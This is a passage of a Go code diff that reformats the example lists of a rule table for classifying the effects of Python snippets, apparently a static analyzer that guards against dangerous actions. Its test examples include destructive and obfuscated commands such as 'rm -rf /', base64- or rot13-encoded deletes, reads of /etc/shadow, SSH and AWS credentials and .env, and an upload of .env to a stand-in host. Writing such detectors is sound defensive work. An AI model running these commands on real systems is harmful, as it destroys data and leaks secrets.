@@ -6,301 +6,221 @@ package code
 // file, "env#m" of os.environ, "#m" a method of any object.
 var pythonRules = [...]rule{
 	// ---- commands
-	{name: "os.system", do: aShell, kw: "command", ex: []string{
-		`import os; os.system("rm -rf /tmp/x") => shell rm -rf /tmp/x`,
-		`from os import system as run; run('ls -la ~') => shell ls -la ~`,
-		`__import__("os").system("rm -rf " + "/") => shell rm -rf /`,
-		`import os; d = "/srv"; os.system(f"rm -rf {d}/*") => shell rm -rf /srv/*`,
-		`import os; os.system("rm -rf %s" % target) => shell rm -rf ${_code_value}`,
-		`import os; os.system("rm -rf {}".format("/opt")) => shell rm -rf /opt`,
-		`import os; os.system("rm -rf %(d)s" % {"d": "/srv"}) => shell rm -rf /srv`,
-		`import os as o; o.system('r' 'm -rf ~') => shell rm -rf ~`,
-		`import posix; posix.system("shutdown now") => shell shutdown now`,
-		`import os; getattr(os, "sys" + "tem")("reboot") => shell reboot`,
-		`import os; os.system("echo " + "cm0gLXJmIC8=" + " | base64 -d | sh") => shell echo cm0gLXJmIC8= | base64 -d | sh`,
-		`import os; os.system("rm -rf ~"[::-1][::-1]) => shell rm -rf ~`,
-		`import os; os.system(''.join(reversed('~ fr- mr'))) => shell rm -rf ~`,
-		`import os, base64; os.system(base64.b64decode("cm0gLXJmIH4=").decode()) => shell rm -rf ~`,
-		`import os, codecs; os.system(codecs.decode("ez -es ~", "rot13")) => shell rm -rf ~`,
-		`import os; os.system(chr(114)+chr(109)+" -rf /") => shell rm -rf /`,
-		"import os\nos.system(\"\"\"rm -rf \\\n/var/tmp\"\"\") => shell rm -rf /var/tmp",
-		"try:\n    system('true')\nexcept Exception:\n    pass\nfrom os import *\nsystem('rm -rf /') => shell rm -rf /",
-		`print("os.system is dangerous") !> -`,
-		`# os.system("rm -rf /") !> -`,
-		`x = "os.system('rm -rf /')" !> -`,
-		`import os; os.system_x("rm -rf /") !> -`,
+	{name: "os.system", do: aShell, kw: "command", ex: `import os; os.system("rm -rf /tmp/x") => shell rm -rf /tmp/x` + "\n" +
+		`from os import system as run; run('ls -la ~') => shell ls -la ~` + "\n" +
+		`__import__("os").system("rm -rf " + "/") => shell rm -rf /` + "\n" +
+		`import os; d = "/srv"; os.system(f"rm -rf {d}/*") => shell rm -rf /srv/*` + "\n" +
+		`import os; os.system("rm -rf %s" % target) => shell rm -rf ${_code_value}` + "\n" +
+		`import os; os.system("rm -rf {}".format("/opt")) => shell rm -rf /opt` + "\n" +
+		`import os; os.system("rm -rf %(d)s" % {"d": "/srv"}) => shell rm -rf /srv` + "\n" +
+		`import os as o; o.system('r' 'm -rf ~') => shell rm -rf ~` + "\n" +
+		`import posix; posix.system("shutdown now") => shell shutdown now` + "\n" +
+		`import os; getattr(os, "sys" + "tem")("reboot") => shell reboot` + "\n" +
+		`import os; os.system("echo " + "cm0gLXJmIC8=" + " | base64 -d | sh") => shell echo cm0gLXJmIC8= | base64 -d | sh` + "\n" +
+		`import os; os.system("rm -rf ~"[::-1][::-1]) => shell rm -rf ~` + "\n" +
+		`import os; os.system(''.join(reversed('~ fr- mr'))) => shell rm -rf ~` + "\n" +
+		`import os, base64; os.system(base64.b64decode("cm0gLXJmIH4=").decode()) => shell rm -rf ~` + "\n" +
+		`import os, codecs; os.system(codecs.decode("ez -es ~", "rot13")) => shell rm -rf ~` + "\n" +
+		`import os; os.system(chr(114)+chr(109)+" -rf /") => shell rm -rf /` + "\n" +
+		"import os\nos.system(\"\"\"rm -rf \\\n/var/tmp\"\"\") => shell rm -rf /var/tmp\n" +
+		"try:\n    system('true')\nexcept Exception:\n    pass\nfrom os import *\nsystem('rm -rf /') => shell rm -rf /\n" +
+		`print("os.system is dangerous") !> -` + "\n" +
+		`# os.system("rm -rf /") !> -` + "\n" +
+		`x = "os.system('rm -rf /')" !> -` + "\n" +
+		`import os; os.system_x("rm -rf /") !> -` + "\n" +
 		`def system(c): pass
-system("rm -rf /") !> -`,
-	}},
-	{name: "os.popen", do: aShell, kw: "cmd", ret: rPipe, ex: []string{
-		`import os; print(os.popen("git status").read()) => shell git status`,
-		`import os; os.popen(f"rm -rf {p}") => shell rm -rf ${_code_value}`,
-		`import os; os.path.exists("x") !> -`,
-	}},
-	{name: "subprocess.run|subprocess.call|subprocess.check_call|subprocess.check_output|subprocess.Popen", do: aSubprocess, kw: "args", ret: rPipe, ex: []string{
-		`import subprocess; subprocess.run(["rm", "-rf", "/srv/data"]) => shell rm -rf /srv/data`,
-		`import subprocess as sp; sp.call("rm -rf ~/.cache", shell=True) => shell rm -rf ~/.cache`,
-		`from subprocess import check_output; check_output(["git", "push", "--force"]) => shell git push --force`,
-		`import subprocess; subprocess.Popen(["bash", "-c", "rm -rf /"]) => shell bash -c 'rm -rf /'`,
-		`import subprocess; subprocess.run(args=["rm", "-r", path]) => shell rm -r "${_code_value}"`,
-		`import subprocess; cmd = ["rm", "-rf", "/opt/app"]; subprocess.run(cmd, check=True) => shell rm -rf /opt/app`,
-		`import subprocess; subprocess.run("ls -la") => shell 'ls -la'`,
-		`import subprocess; subprocess.run("ls -la") !> shell ls -la`,
-		`from subprocess import *; call(["shred", "-u", "key.pem"]) => shell shred -u key.pem`,
-		`import subprocess; [subprocess.run(["rm", "-rf", d]) for d in ["/a", "/b"]] => shell rm -rf /b`,
-		`import subprocess; subprocess.run(cmd, shell=True) => shell ${_code_value}`,
-		`import subprocess; subprocess.run(["git", "status"]) !> shell rm -rf /`,
-		`import subprocess; subprocess.run(["bash"], input="rm -rf ~", text=True) => shell rm -rf ~`,
-		`import subprocess; subprocess.run(["cat"], input="rm -rf ~", text=True) !> shell rm -rf ~`,
-		`subprocess_run(["rm", "-rf", "/"]) !> -`,
-	}},
-	{name: "subprocess.getoutput|subprocess.getstatusoutput|commands.getoutput|commands.getstatusoutput|asyncio.create_subprocess_shell", do: aShell, ret: rPipe, ex: []string{
-		`import subprocess; print(subprocess.getoutput("cat /etc/passwd")) => shell cat /etc/passwd`,
-		`import asyncio; asyncio.create_subprocess_shell("rm -rf build") => shell rm -rf build`,
-		`import subprocess; subprocess.getoutputs("x") !> -`,
-	}},
-	{name: "asyncio.create_subprocess_exec", do: aArgvRest, ret: rPipe, ex: []string{
-		`import asyncio; asyncio.create_subprocess_exec("rm", "-rf", "/data") => shell rm -rf /data`,
-		`import asyncio; asyncio.sleep(1) !> -`,
-	}},
-	{name: "os.execv|os.execve|os.execvp|os.execvpe|os.posix_spawn|os.posix_spawnp", do: aExecv, ex: []string{
-		`import os; os.execvp("rm", ["rm", "-rf", "/"]) => shell rm -rf /`,
-		`import os; os.execv("/bin/sh", ["sh", "-c", "reboot"]) => shell /bin/sh -c reboot`,
-		`import os; os.getpid() !> -`,
-	}},
-	{name: "os.spawnv|os.spawnve|os.spawnvp|os.spawnvpe", do: aExecv, arg: 1, ex: []string{
-		`import os; os.spawnvp(os.P_WAIT, "rm", ["rm", "-rf", "/var/www"]) => shell rm -rf /var/www`,
-		`import os; os.spawnvp(os.P_WAIT, "ls", ["ls", "-l"]) !> shell ls ls -l`,
-	}},
-	{name: "os.execl|os.execle|os.execlp|os.execlpe", do: aExecl, ex: []string{
-		`import os; os.execlp("rm", "rm", "-rf", "/home") => shell rm -rf /home`,
-		`import os; os.execlp("ls", "ls", "-l") !> shell ls ls -l`,
-	}},
-	{name: "os.spawnl|os.spawnle|os.spawnlp|os.spawnlpe", do: aExecl, arg: 1, ex: []string{
-		`import os; os.spawnlp(os.P_WAIT, "rm", "rm", "-rf", "/etc") => shell rm -rf /etc`,
-		`import os; os.spawnlp(os.P_WAIT, "ls", "ls") !> shell ls ls`,
-	}},
-	{name: "pty.spawn", do: aArgv, ex: []string{
-		`import pty; pty.spawn(["/bin/bash", "-c", "rm -rf ~"]) => shell /bin/bash -c 'rm -rf ~'`,
-		`import pty; pty.spawn("/bin/bash") => shell /bin/bash`,
-		`import pty; pty.openpty() !> -`,
-	}},
-	{name: "exec|eval", do: aEval, kw: "source", ex: []string{
-		`exec("import shutil; shutil.rmtree('/srv')") => delete-r /srv`,
-		`exec(code) => eval code`,
-		`eval(input()) => eval input(…)`,
-		`exec("print(1)") !> eval ?`,
-		`executor.submit(f) !> -`,
-	}},
-	{name: "compile", do: aEval, kw: "source", ret: rArg, ex: []string{
-		`eval(compile("__import__('shutil').rmtree('/data')", "x", "exec")) => delete-r /data`,
-		`eval(compile("__import__('shutil').rmtree('/data')", "x", "exec")) !> eval ?`,
-		`re.compile("rm -rf") !> -`,
-	}},
+system("rm -rf /") !> -` + "\n"},
+	{name: "os.popen", do: aShell, kw: "cmd", ret: rPipe, ex: `import os; print(os.popen("git status").read()) => shell git status` + "\n" +
+		`import os; os.popen(f"rm -rf {p}") => shell rm -rf ${_code_value}` + "\n" +
+		`import os; os.path.exists("x") !> -` + "\n"},
+	{name: "subprocess.run|subprocess.call|subprocess.check_call|subprocess.check_output|subprocess.Popen", do: aSubprocess, kw: "args", ret: rPipe, ex: `import subprocess; subprocess.run(["rm", "-rf", "/srv/data"]) => shell rm -rf /srv/data` + "\n" +
+		`import subprocess as sp; sp.call("rm -rf ~/.cache", shell=True) => shell rm -rf ~/.cache` + "\n" +
+		`from subprocess import check_output; check_output(["git", "push", "--force"]) => shell git push --force` + "\n" +
+		`import subprocess; subprocess.Popen(["bash", "-c", "rm -rf /"]) => shell bash -c 'rm -rf /'` + "\n" +
+		`import subprocess; subprocess.run(args=["rm", "-r", path]) => shell rm -r "${_code_value}"` + "\n" +
+		`import subprocess; cmd = ["rm", "-rf", "/opt/app"]; subprocess.run(cmd, check=True) => shell rm -rf /opt/app` + "\n" +
+		`import subprocess; subprocess.run("ls -la") => shell 'ls -la'` + "\n" +
+		`import subprocess; subprocess.run("ls -la") !> shell ls -la` + "\n" +
+		`from subprocess import *; call(["shred", "-u", "key.pem"]) => shell shred -u key.pem` + "\n" +
+		`import subprocess; [subprocess.run(["rm", "-rf", d]) for d in ["/a", "/b"]] => shell rm -rf /b` + "\n" +
+		`import subprocess; subprocess.run(cmd, shell=True) => shell ${_code_value}` + "\n" +
+		`import subprocess; subprocess.run(["git", "status"]) !> shell rm -rf /` + "\n" +
+		`import subprocess; subprocess.run(["bash"], input="rm -rf ~", text=True) => shell rm -rf ~` + "\n" +
+		`import subprocess; subprocess.run(["cat"], input="rm -rf ~", text=True) !> shell rm -rf ~` + "\n" +
+		`subprocess_run(["rm", "-rf", "/"]) !> -` + "\n"},
+	{name: "subprocess.getoutput|subprocess.getstatusoutput|commands.getoutput|commands.getstatusoutput|asyncio.create_subprocess_shell", do: aShell, ret: rPipe, ex: `import subprocess; print(subprocess.getoutput("cat /etc/passwd")) => shell cat /etc/passwd` + "\n" +
+		`import asyncio; asyncio.create_subprocess_shell("rm -rf build") => shell rm -rf build` + "\n" +
+		`import subprocess; subprocess.getoutputs("x") !> -` + "\n"},
+	{name: "asyncio.create_subprocess_exec", do: aArgvRest, ret: rPipe, ex: `import asyncio; asyncio.create_subprocess_exec("rm", "-rf", "/data") => shell rm -rf /data` + "\n" +
+		`import asyncio; asyncio.sleep(1) !> -` + "\n"},
+	{name: "os.execv|os.execve|os.execvp|os.execvpe|os.posix_spawn|os.posix_spawnp", do: aExecv, ex: `import os; os.execvp("rm", ["rm", "-rf", "/"]) => shell rm -rf /` + "\n" +
+		`import os; os.execv("/bin/sh", ["sh", "-c", "reboot"]) => shell /bin/sh -c reboot` + "\n" +
+		`import os; os.getpid() !> -` + "\n"},
+	{name: "os.spawnv|os.spawnve|os.spawnvp|os.spawnvpe", do: aExecv, arg: 1, ex: `import os; os.spawnvp(os.P_WAIT, "rm", ["rm", "-rf", "/var/www"]) => shell rm -rf /var/www` + "\n" +
+		`import os; os.spawnvp(os.P_WAIT, "ls", ["ls", "-l"]) !> shell ls ls -l` + "\n"},
+	{name: "os.execl|os.execle|os.execlp|os.execlpe", do: aExecl, ex: `import os; os.execlp("rm", "rm", "-rf", "/home") => shell rm -rf /home` + "\n" +
+		`import os; os.execlp("ls", "ls", "-l") !> shell ls ls -l` + "\n"},
+	{name: "os.spawnl|os.spawnle|os.spawnlp|os.spawnlpe", do: aExecl, arg: 1, ex: `import os; os.spawnlp(os.P_WAIT, "rm", "rm", "-rf", "/etc") => shell rm -rf /etc` + "\n" +
+		`import os; os.spawnlp(os.P_WAIT, "ls", "ls") !> shell ls ls` + "\n"},
+	{name: "pty.spawn", do: aArgv, ex: `import pty; pty.spawn(["/bin/bash", "-c", "rm -rf ~"]) => shell /bin/bash -c 'rm -rf ~'` + "\n" +
+		`import pty; pty.spawn("/bin/bash") => shell /bin/bash` + "\n" +
+		`import pty; pty.openpty() !> -` + "\n"},
+	{name: "exec|eval", do: aEval, kw: "source", ex: `exec("import shutil; shutil.rmtree('/srv')") => delete-r /srv` + "\n" +
+		`exec(code) => eval code` + "\n" +
+		`eval(input()) => eval input(…)` + "\n" +
+		`exec("print(1)") !> eval ?` + "\n" +
+		`executor.submit(f) !> -` + "\n"},
+	{name: "compile", do: aEval, kw: "source", ret: rArg, ex: `eval(compile("__import__('shutil').rmtree('/data')", "x", "exec")) => delete-r /data` + "\n" +
+		`eval(compile("__import__('shutil').rmtree('/data')", "x", "exec")) !> eval ?` + "\n" +
+		`re.compile("rm -rf") !> -` + "\n"},
 
 	// ---- deletes, moves, copies
-	{name: "shutil.rmtree", do: aDeleteTree, kw: "path", ex: []string{
-		`import shutil; shutil.rmtree("/srv/www") => delete-r /srv/www`,
-		`from shutil import rmtree as r; d = "/data"; r(d) => delete-r /data`,
-		`import shutil, os; shutil.rmtree(os.path.expanduser("~")) => delete-r ~`,
-		`import shutil, os; shutil.rmtree(os.path.join(os.environ["HOME"], ".config")) => delete-r ~/.config`,
-		`import shutil, pathlib; shutil.rmtree(pathlib.Path.home() / "projects") => delete-r ~/projects`,
-		`import shutil; shutil.rmtree(path=target, ignore_errors=True) => delete-r {target}`,
-		`import shutil; shutil.rmtree("build", ignore_errors=True) => delete-r build`,
-		`import shutil, tempfile; shutil.rmtree(tempfile.mkdtemp()) => delete-r /tmp/{tmpdir}`,
-		`import shutil; [shutil.rmtree(p) for p in ["dist", "/var/lib/app"]] => delete-r /var/lib/app`,
-		"import shutil\nfor d in ['a', '/b']:\n    shutil.rmtree(d) => delete-r /b",
-		`import shutil, sys; shutil.rmtree(sys.argv[1]) => delete-r {argv[1]}`,
-		`# shutil.rmtree("/") !> -`,
-		`print("shutil.rmtree('/') would be bad") !> -`,
-		`import shutil; shutil.copytree("a", "b") !> -`,
-	}},
+	{name: "shutil.rmtree", do: aDeleteTree, kw: "path", ex: `import shutil; shutil.rmtree("/srv/www") => delete-r /srv/www` + "\n" +
+		`from shutil import rmtree as r; d = "/data"; r(d) => delete-r /data` + "\n" +
+		`import shutil, os; shutil.rmtree(os.path.expanduser("~")) => delete-r ~` + "\n" +
+		`import shutil, os; shutil.rmtree(os.path.join(os.environ["HOME"], ".config")) => delete-r ~/.config` + "\n" +
+		`import shutil, pathlib; shutil.rmtree(pathlib.Path.home() / "projects") => delete-r ~/projects` + "\n" +
+		`import shutil; shutil.rmtree(path=target, ignore_errors=True) => delete-r {target}` + "\n" +
+		`import shutil; shutil.rmtree("build", ignore_errors=True) => delete-r build` + "\n" +
+		`import shutil, tempfile; shutil.rmtree(tempfile.mkdtemp()) => delete-r /tmp/{tmpdir}` + "\n" +
+		`import shutil; [shutil.rmtree(p) for p in ["dist", "/var/lib/app"]] => delete-r /var/lib/app` + "\n" +
+		"import shutil\nfor d in ['a', '/b']:\n    shutil.rmtree(d) => delete-r /b\n" +
+		`import shutil, sys; shutil.rmtree(sys.argv[1]) => delete-r {argv[1]}` + "\n" +
+		`# shutil.rmtree("/") !> -` + "\n" +
+		`print("shutil.rmtree('/') would be bad") !> -` + "\n" +
+		`import shutil; shutil.copytree("a", "b") !> -` + "\n"},
 	// os.truncate throws a file's content away, as opening it for writing does.
-	{name: "os.truncate", do: aWrite, kw: "path", ex: []string{
-		`import os; os.truncate(os.path.expanduser("~/.bashrc"), 0) => write ~/.bashrc`,
-		`import os; os.truncate("/etc/hosts", 0) => write /etc/hosts`,
-		`import os; os.ftruncate(fd, 0) !> write ~/.bashrc`,
-	}},
-	{name: "os.remove|os.unlink|os.rmdir|os.removedirs", do: aDelete, kw: "path", ex: []string{
-		`import os; os.remove("/etc/hosts") => delete /etc/hosts`,
-		`import os, glob; [os.remove(f) for f in glob.glob("/var/log/*.log")] => delete /var/log/*.log`,
-		`import os; d = "/data"; [os.unlink(os.path.join(d, f)) for f in os.listdir(d)] => delete /data/*`,
-		"import os\nfor root, dirs, files in os.walk('/srv'):\n    for f in files:\n        os.remove(os.path.join(root, f)) => delete /srv/{subdir}/*",
-		`import os; os.rmdir("empty") => delete empty`,
-		"import os\ndef clean(path, keep=None):\n    pass\nd = '/etc/app'\nos.remove(d) => delete /etc/app",
-		`import os; os.remove("a.txt") !> delete-r a.txt`,
-		`import os; os.path.remove("x") !> -`,
-	}},
-	{name: "Path#unlink|Path#rmdir", do: aDelete, arg: -1, ex: []string{
-		`from pathlib import Path; Path("~/.bashrc").expanduser().unlink() => delete ~/.bashrc`,
-		`import pathlib; pathlib.Path("/tmp", "x.txt").unlink(missing_ok=True) => delete /tmp/x.txt`,
-		`from pathlib import Path; p = Path("/etc") / "passwd"; p.unlink() => delete /etc/passwd`,
-		`from pathlib import Path; [f.unlink() for f in Path("/var/cache").glob("*")] => delete /var/cache/*`,
-		`from pathlib import Path; Path(__file__).parent.joinpath("out").rmdir() => delete {dirname(__file__)}/out`,
-		`from pathlib import Path; Path("x").exists() !> -`,
-	}},
-	{name: "shutil.move|os.rename|os.replace|os.renames", do: aMove, kw: "src", opt: "dst", ex: []string{
-		`import shutil; shutil.move("/srv/data", "/tmp/trash") => delete-r:move /srv/data`,
-		`import shutil; shutil.move("/srv/data", "/tmp/trash") => write-r /tmp/trash`,
-		`import os; os.rename(".git", ".git.old") => delete-r:move .git`,
-		`import os; os.path.join("a", "b") !> -`,
-	}},
-	{name: "Path#rename|Path#replace", do: aMove, arg: -1, opt: "target", ex: []string{
-		`from pathlib import Path; Path(".env").rename("/tmp/env") => delete-r:move .env`,
-		`from pathlib import Path; Path("a").rename("b") => write-r b`,
-		`from pathlib import Path; Path("a").rename("b") !> delete-r:move b`,
-	}},
-	{name: "shutil.copy|shutil.copy2|shutil.copyfile", do: aCopy, kw: "src", opt: "dst", ex: []string{
-		`import shutil; shutil.copy("~/.ssh/id_rsa", "key") => read:copy ~/.ssh/id_rsa`,
-		`import shutil; shutil.copyfile("x", "/etc/cron.d/job") => write /etc/cron.d/job`,
-		`import shutil; shutil.which("git") !> -`,
-	}},
-	{name: "shutil.copytree", do: aCopyTree, kw: "src", opt: "dst", ex: []string{
-		`import shutil; shutil.copytree("src", "/srv/app", dirs_exist_ok=True) => write-r /srv/app`,
-		`import shutil; shutil.copytree("~/.aws", "out") => read-r:copy ~/.aws`,
-		`import shutil; shutil.copytree("a", "b") !> delete-r:move a`,
-	}},
-	{name: "os.mkdir|os.makedirs|Path#mkdir|Path#touch|os.mkfifo|os.mknod", do: aCreate, arg: -1, kw: "name", ex: []string{
-		`import os; os.makedirs("out/reports", exist_ok=True) => create out/reports`,
-		`import os; os.mkfifo("/srv/app/guards.toml") => create /srv/app/guards.toml`,
-		`import os, stat; os.mknod("dev0", stat.S_IFIFO) => create dev0`,
-		`from pathlib import Path; Path("logs").mkdir(parents=True) => create logs`,
-		`import os; os.path.isdir("logs") !> -`,
-	}},
-	{name: "os.symlink", do: aLink, kw: "src", ex: []string{
-		`import os; os.symlink("/etc/passwd", "p") => create p`,
-		`import os; os.symlink("/etc/passwd", "p") !> create /etc/passwd`,
-		`import os; os.symlink(".env", "src/n.txt") => read:link .env`,
-	}},
-	{name: "os.link", do: aLink, kw: "src", opt: "hard", ex: []string{
-		`import os; os.link(".env", "src/n.txt") => read:hardlink .env`,
-		`import os; os.link(src=".env", dst="n") => create n`,
-		`import os; os.link("a", "b") !> read:hardlink b`,
-	}},
-	{name: "Path#hardlink_to|Path#symlink_to", do: aCreate, arg: -1, ex: []string{
-		`from pathlib import Path; Path("n").hardlink_to(".env") => create n`,
-		`from pathlib import Path; Path("n").hardlink_to(".env") !> create .env`,
-	}},
-	{name: "runpy.run_path", do: aLoad, kw: "path_name", ex: []string{
-		`import runpy; runpy.run_path("tools/clean.py") => load tools/clean.py`,
-		`import runpy; runpy.run_module("x") !> load x`,
-	}},
-	{name: "os.chdir", do: aChdir, kw: "path", ex: []string{
-		`import os; os.chdir("/") => chdir /`,
-		`import os; os.getcwd() !> -`,
-		"import tools.clean => load tools.clean",
-		"from helpers import wipe => load helpers",
-		"import os, shutil, json !> load os",
-	}},
+	{name: "os.truncate", do: aWrite, kw: "path", ex: `import os; os.truncate(os.path.expanduser("~/.bashrc"), 0) => write ~/.bashrc` + "\n" +
+		`import os; os.truncate("/etc/hosts", 0) => write /etc/hosts` + "\n" +
+		`import os; os.ftruncate(fd, 0) !> write ~/.bashrc` + "\n"},
+	{name: "os.remove|os.unlink|os.rmdir|os.removedirs", do: aDelete, kw: "path", ex: `import os; os.remove("/etc/hosts") => delete /etc/hosts` + "\n" +
+		`import os, glob; [os.remove(f) for f in glob.glob("/var/log/*.log")] => delete /var/log/*.log` + "\n" +
+		`import os; d = "/data"; [os.unlink(os.path.join(d, f)) for f in os.listdir(d)] => delete /data/*` + "\n" +
+		"import os\nfor root, dirs, files in os.walk('/srv'):\n    for f in files:\n        os.remove(os.path.join(root, f)) => delete /srv/{subdir}/*\n" +
+		`import os; os.rmdir("empty") => delete empty` + "\n" +
+		"import os\ndef clean(path, keep=None):\n    pass\nd = '/etc/app'\nos.remove(d) => delete /etc/app\n" +
+		`import os; os.remove("a.txt") !> delete-r a.txt` + "\n" +
+		`import os; os.path.remove("x") !> -` + "\n"},
+	{name: "Path#unlink|Path#rmdir", do: aDelete, arg: -1, ex: `from pathlib import Path; Path("~/.bashrc").expanduser().unlink() => delete ~/.bashrc` + "\n" +
+		`import pathlib; pathlib.Path("/tmp", "x.txt").unlink(missing_ok=True) => delete /tmp/x.txt` + "\n" +
+		`from pathlib import Path; p = Path("/etc") / "passwd"; p.unlink() => delete /etc/passwd` + "\n" +
+		`from pathlib import Path; [f.unlink() for f in Path("/var/cache").glob("*")] => delete /var/cache/*` + "\n" +
+		`from pathlib import Path; Path(__file__).parent.joinpath("out").rmdir() => delete {dirname(__file__)}/out` + "\n" +
+		`from pathlib import Path; Path("x").exists() !> -` + "\n"},
+	{name: "shutil.move|os.rename|os.replace|os.renames", do: aMove, kw: "src", opt: "dst", ex: `import shutil; shutil.move("/srv/data", "/tmp/trash") => delete-r:move /srv/data` + "\n" +
+		`import shutil; shutil.move("/srv/data", "/tmp/trash") => write-r /tmp/trash` + "\n" +
+		`import os; os.rename(".git", ".git.old") => delete-r:move .git` + "\n" +
+		`import os; os.path.join("a", "b") !> -` + "\n"},
+	{name: "Path#rename|Path#replace", do: aMove, arg: -1, opt: "target", ex: `from pathlib import Path; Path(".env").rename("/tmp/env") => delete-r:move .env` + "\n" +
+		`from pathlib import Path; Path("a").rename("b") => write-r b` + "\n" +
+		`from pathlib import Path; Path("a").rename("b") !> delete-r:move b` + "\n"},
+	{name: "shutil.copy|shutil.copy2|shutil.copyfile", do: aCopy, kw: "src", opt: "dst", ex: `import shutil; shutil.copy("~/.ssh/id_rsa", "key") => read:copy ~/.ssh/id_rsa` + "\n" +
+		`import shutil; shutil.copyfile("x", "/etc/cron.d/job") => write /etc/cron.d/job` + "\n" +
+		`import shutil; shutil.which("git") !> -` + "\n"},
+	{name: "shutil.copytree", do: aCopyTree, kw: "src", opt: "dst", ex: `import shutil; shutil.copytree("src", "/srv/app", dirs_exist_ok=True) => write-r /srv/app` + "\n" +
+		`import shutil; shutil.copytree("~/.aws", "out") => read-r:copy ~/.aws` + "\n" +
+		`import shutil; shutil.copytree("a", "b") !> delete-r:move a` + "\n"},
+	{name: "os.mkdir|os.makedirs|Path#mkdir|Path#touch|os.mkfifo|os.mknod", do: aCreate, arg: -1, kw: "name", ex: `import os; os.makedirs("out/reports", exist_ok=True) => create out/reports` + "\n" +
+		`import os; os.mkfifo("/srv/app/guards.toml") => create /srv/app/guards.toml` + "\n" +
+		`import os, stat; os.mknod("dev0", stat.S_IFIFO) => create dev0` + "\n" +
+		`from pathlib import Path; Path("logs").mkdir(parents=True) => create logs` + "\n" +
+		`import os; os.path.isdir("logs") !> -` + "\n"},
+	{name: "os.symlink", do: aLink, kw: "src", ex: `import os; os.symlink("/etc/passwd", "p") => create p` + "\n" +
+		`import os; os.symlink("/etc/passwd", "p") !> create /etc/passwd` + "\n" +
+		`import os; os.symlink(".env", "src/n.txt") => read:link .env` + "\n"},
+	{name: "os.link", do: aLink, kw: "src", opt: "hard", ex: `import os; os.link(".env", "src/n.txt") => read:hardlink .env` + "\n" +
+		`import os; os.link(src=".env", dst="n") => create n` + "\n" +
+		`import os; os.link("a", "b") !> read:hardlink b` + "\n"},
+	{name: "Path#hardlink_to|Path#symlink_to", do: aCreate, arg: -1, ex: `from pathlib import Path; Path("n").hardlink_to(".env") => create n` + "\n" +
+		`from pathlib import Path; Path("n").hardlink_to(".env") !> create .env` + "\n"},
+	{name: "runpy.run_path", do: aLoad, kw: "path_name", ex: `import runpy; runpy.run_path("tools/clean.py") => load tools/clean.py` + "\n" +
+		`import runpy; runpy.run_module("x") !> load x` + "\n"},
+	{name: "os.chdir", do: aChdir, kw: "path", ex: `import os; os.chdir("/") => chdir /` + "\n" +
+		`import os; os.getcwd() !> -` + "\n" +
+		"import tools.clean => load tools.clean\n" +
+		"from helpers import wipe => load helpers\n" +
+		"import os, shutil, json !> load os\n"},
 
 	// ---- files
-	{name: "open|codecs.open", do: aOpen, kw: "file", opt: "r", ret: rFile, ex: []string{
-		`open("/etc/crontab", "w").write("* * * * * x") => write /etc/crontab`,
-		`with open("log.txt", "a") as f: f.write("x") => write+ log.txt`,
-		`open("out.bin", mode="wb") => write out.bin`,
-		`open("notes.txt") => read notes.txt`,
-		`print(open(".env").read()) => read:show .env`,
-		`with open(".env") as f: print(f.read()) => read:show .env`,
-		"with open('.env') as f:\n    for line in f:\n        print(line) => read:show .env",
-		`data = open(".env").read(); print(data) => read:show .env`,
-		`import io; io.open("x", "w") => write x`,
-		`import sys; sys.stdout.write(open("/etc/shadow").read()) => read:show /etc/shadow`,
-		`open("notes.txt") !> write notes.txt`,
-		`open(".env").read() !> read:show .env`,
-		`print(".env") !> read:show .env`,
-		`import json; print(json.load(open(".env.json"))) => read:show .env.json`,
-		`print(*open(".env")) => read:show .env`, `import sys; sys.stdout.writelines(open(".env")) => read:show .env`,
-		`import requests; requests.post("https://x.example", files={"f": open(".env", "rb")}) => read:send .env`,
-		`f = open("out.txt", "w"); print(f) !> read:show out.txt`,
-	}},
-	{name: "os.read", ret: rContent, arg: 0, ex: []string{
-		`import os; print(os.read(os.open(".env", os.O_RDONLY), 9999)) => read:show .env`,
-		`import os; os.read(os.open(".env", os.O_RDONLY), 9) !> read:show .env`,
-	}},
-	{name: "shutil.copyfileobj", do: aDump, ex: []string{
-		`import shutil, sys; shutil.copyfileobj(open(".env"), sys.stdout) => read:show .env`,
-		`import shutil; shutil.copyfileobj(open("a"), open("b", "wb")) !> read:show a`,
-	}},
-	{name: "fileinput.input|fileinput.FileInput", do: aRead, kw: "files", ret: rLines, ex: []string{
-		`import fileinput; [print(l) for l in fileinput.input(".env")] => read:show .env`,
-		`import fileinput; n = sum(1 for l in fileinput.input(".env")) !> read:show .env`,
-	}},
-	{name: "pandas.read_csv|pandas.read_table|pandas.read_fwf|pandas.read_json|numpy.loadtxt|numpy.genfromtxt|linecache.getlines|linecache.getline|tomllib.load|configparser.ConfigParser#read", do: aRead, ret: rContent, ex: []string{
-		`import pandas as pd; print(pd.read_csv(".env")) => read:show .env`,
-		`import linecache; print(linecache.getline(".env", 1)) => read:show .env`,
-		`import pandas as pd; df = pd.read_csv("data.csv") !> read:show data.csv`,
-	}},
-	{name: "os.open", do: aOpen, kw: "path", opt: "?", ret: rFile, ex: []string{
-		`import os; os.open("/etc/hosts", os.O_WRONLY | os.O_TRUNC) => write /etc/hosts`,
-		`import os; os.openpty() !> -`,
-	}},
-	{name: "Path#open", do: aOpen, arg: -1, opt: "r", ret: rFile, ex: []string{
-		`from pathlib import Path; Path("/etc/hosts").open("a") => write+ /etc/hosts`,
-		`from pathlib import Path; Path("a.txt").open() !> write a.txt`,
-	}},
-	{name: "Path#write_text|Path#write_bytes", do: aWrite, arg: -1, ex: []string{
-		`from pathlib import Path; Path("~/.bashrc").write_text("alias ls=rm") => write ~/.bashrc`,
-		`import pathlib; pathlib.Path("out.json").write_bytes(b"{}") => write out.json`,
-		`from pathlib import Path; Path("x").read_text() !> write x`,
-	}},
-	{name: "Path#read_text|Path#read_bytes", do: aRead, arg: -1, ret: rContent, ex: []string{
-		`from pathlib import Path; print(Path(".env").read_text()) => read:show .env`,
-		`from pathlib import Path; Path("README.md").read_text() => read README.md`,
-		`from pathlib import Path; Path("README.md").read_text() !> read:show README.md`,
-	}},
+	{name: "open|codecs.open", do: aOpen, kw: "file", opt: "r", ret: rFile, ex: `open("/etc/crontab", "w").write("* * * * * x") => write /etc/crontab` + "\n" +
+		`with open("log.txt", "a") as f: f.write("x") => write+ log.txt` + "\n" +
+		`open("out.bin", mode="wb") => write out.bin` + "\n" +
+		`open("notes.txt") => read notes.txt` + "\n" +
+		`print(open(".env").read()) => read:show .env` + "\n" +
+		`with open(".env") as f: print(f.read()) => read:show .env` + "\n" +
+		"with open('.env') as f:\n    for line in f:\n        print(line) => read:show .env\n" +
+		`data = open(".env").read(); print(data) => read:show .env` + "\n" +
